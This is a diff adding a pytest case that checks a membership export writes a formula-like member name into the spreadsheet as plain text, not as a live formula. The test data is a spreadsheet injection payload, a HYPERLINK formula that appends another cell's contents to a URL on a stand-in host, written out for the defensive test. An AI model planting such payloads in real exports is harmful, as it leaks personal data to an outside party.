@@ -82,3 +82,15 @@ def test_only_an_exporter_may_export_within_scope(world):
     with pytest.raises(NotFound):
         export(world.county_admin, union=world.county2)
     assert not AuditEntry.objects.filter(action="member.export").exists()
+
+
+def test_a_name_that_reads_like_a_formula_goes_out_as_text(world):
+    name = '=HYPERLINK("http://e.x/?"&E2,"x")'
+    make_member(world.grassroots, name=name)
+    out = io.BytesIO()
+    member_export(actor=world.county_admin, out=out)
+    out.seek(0)
+    sheet = load_workbook(out).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert name in [c.value for c in cells]
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
